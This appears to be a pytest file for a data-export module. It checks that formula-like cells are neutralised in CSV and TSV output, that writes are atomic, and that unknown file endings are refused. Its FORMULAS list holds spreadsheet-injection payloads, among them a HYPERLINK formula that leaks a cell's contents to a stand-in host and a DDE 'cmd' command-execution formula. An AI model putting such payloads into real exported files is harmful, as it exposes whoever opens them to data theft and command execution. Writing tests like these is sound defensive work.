"""What goes into text files: no formula, no torn line, and no half file."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from flows.errors import FlowError
from flows.export_files import format_of, harmless, write

COLUMNS = pa.schema([("n", pa.int32()), ("score", pa.float64()), ("text", pa.string())])
FORMULAS = [
    *('=HYPERLINK("http://x/?"&A1,"y")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r\n=1", " =1"),
    *("\u00a0=1", "\ufeff=1", "＝1", "＋1", "－1", "＠A1", "−1", "\u3000=1", "\x00=1"),
]
PLAIN = ["A = B", "a@b.example", "2024-01-17", "'quoted'", "", "3=3", "https://x/?a=b", "Al-Qaeda", "Ünïcode ضربه"]


def save(path: Path, *texts: str | None) -> str:
    rows = [{"n": -1, "score": -4.5, "text": text} for text in texts]
    batch = pa.RecordBatch.from_pylist(rows, schema=COLUMNS)
    assert write([batch], path, columns=COLUMNS) == len(texts)
    return path.read_text(encoding="utf-8") if path.suffix != ".parquet" else ""


@pytest.mark.parametrize("comma", [",", "\t"])
def test_no_cell_is_a_formula(comma: str) -> None:
    cells = harmless(pa.array(FORMULAS), comma).to_pylist()
    assert [cell[0] for cell in cells] == ["'"] * len(FORMULAS)
    assert not [cell for cell in cells if set(cell) & set("\t\r\n\x00")]


def test_other_texts_stay_as_they_are() -> None:
    assert harmless(pa.array([*PLAIN, None]), ",").to_pylist() == [*PLAIN, None]


def test_figures_below_zero_stay_figures(tmp_path: Path) -> None:
    assert save(tmp_path / "x.csv", "a") == 'n,score,text\n-1,-4.5,"a"\n'


def test_tab_separated_text_has_no_quotes_and_one_line_a_row(tmp_path: Path) -> None:
    assert save(tmp_path / "x.tab", 'a "b"\tc\nd', None) == "n\tscore\ttext\n-1\t-4.5\ta 'b' c d\n-1\t-4.5\t\n"


def test_gdelts_own_files_have_no_header(tmp_path: Path) -> None:
    assert save(tmp_path / "20240117.export.CSV", "a,b") == "-1\t-4.5\ta,b\n"


def test_csv_gives_back_what_it_was_given(tmp_path: Path) -> None:
    texts = ['a "b", c', "x;=1", "it's", "ß"]
    save(tmp_path / "x.csv", *texts)
    with (tmp_path / "x.csv").open(encoding="utf-8", newline="") as stream:
        assert [row["text"] for row in csv.DictReader(stream)] == texts


def test_parquet_keeps_every_value(tmp_path: Path) -> None:
    save(tmp_path / "x.parquet", *FORMULAS)
    assert pq.read_table(tmp_path / "x.parquet")["text"].to_pylist() == FORMULAS


@pytest.mark.parametrize("name", ["x.csv", "x.parquet"])
def test_a_write_that_breaks_leaves_the_old_file_whole(tmp_path: Path, name: str) -> None:
    save(tmp_path / name, "old")
    before = (tmp_path / name).read_bytes()

    def broken() -> object:
        yield pa.RecordBatch.from_pylist([{"n": 1, "score": 1.0, "text": "new"}], schema=COLUMNS)
        raise OSError(28, "No space left on device")

    with pytest.raises(FlowError, match=r"can't be written: No space left on device"):
        write(broken(), tmp_path / name, columns=COLUMNS)
    assert [path.name for path in tmp_path.iterdir()] == [name]
    assert (tmp_path / name).read_bytes() == before


@pytest.mark.parametrize("name", ["x", "x.xlsx", "csv", "x.csv.gz"])
def test_an_ending_that_says_nothing_is_refused(name: str) -> None:
    with pytest.raises(FlowError, match=r"endings: \.export\.csv, \.csv, \.tsv"):
        format_of(Path(name))
